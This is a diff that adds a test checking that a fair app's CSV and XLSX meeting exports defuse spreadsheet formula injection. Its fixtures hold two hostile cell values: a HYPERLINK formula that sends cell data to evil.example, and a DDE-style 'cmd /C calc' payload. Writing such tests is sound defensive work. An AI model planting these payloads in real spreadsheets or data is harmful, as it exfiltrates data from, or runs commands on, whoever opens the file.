@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import ExcelJS from 'exceljs'
 import { createBuyer, createExporter, createProduct, createUser } from '../../../tests/fixtures'
 import { caught, formRequest, getRequest, mintCsrf } from '../../../tests/http'
 import { disconnectPrisma, getPrisma } from '~/domain/db.server'
@@ -317,5 +318,47 @@ describe('session reminders', () => {
     // The later session comes into the window and gets its own single reminder.
     expect(await sendSessionReminders(new Date(now.getTime() + 6 * MINUTE))).toBe(1)
     expect(await sendSessionReminders(new Date(now.getTime() + 7 * MINUTE))).toBe(0)
+  })
+})
+
+describe('export files and formula injection', () => {
+  it('CSV cells that would start a formula are prefixed with an apostrophe; XLSX keeps them as text cells', async () => {
+    const prisma = await getPrisma()
+    const organizer = await createUser('ORGANIZER')
+    const fair = await createFair(organizer.user.id, { status: 'LIVE' })
+    const hostileExporter = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
+    const hostileBuyer = '＠SUM(1+1)*cmd|" /C calc"!A0'
+    const exporter = await createExporter({ companyName: hostileExporter })
+    const buyer = await createBuyer({ companyName: hostileBuyer })
+    await prisma.meeting.create({
+      data: {
+        buyerId: buyer.profile.id,
+        companyId: exporter.company.id,
+        fairId: fair.id,
+        status: 'HELD',
+        startsAt: new Date('2026-07-02T01:00:00Z'),
+        endsAt: new Date('2026-07-02T01:30:00Z'),
+        requestedById: buyer.user.id,
+        consultationValueUsdCents: 1000n,
+      },
+    })
+    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const line = (await csv.text()).trim().split('\n')[1]!
+    // Each hostile name is one quoted cell starting with an apostrophe (inner quotes doubled).
+    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Invoice"")",`)
+    expect(line).toContain(`,"'＠SUM(1+1)*cmd|"" /C calc""!A0",`)
+    expect(line).not.toMatch(/,=|,"=|,＠|,"＠/)
+
+    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)) as Response
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load((await xlsx.arrayBuffer()) as never)
+    const row = workbook.getWorksheet('Consultations')!.getRow(2)
+    // Typed string cells: Excel shows the text and never evaluates it (no formula cell is written).
+    for (const [column, name] of [[3, hostileExporter], [4, hostileBuyer]] as const) {
+      const cell = row.getCell(column)
+      expect(cell.type).toBe(ExcelJS.ValueType.String)
+      expect(cell.value).toBe(name)
+      expect(cell.formula).toBeUndefined()
+    }
   })
 })
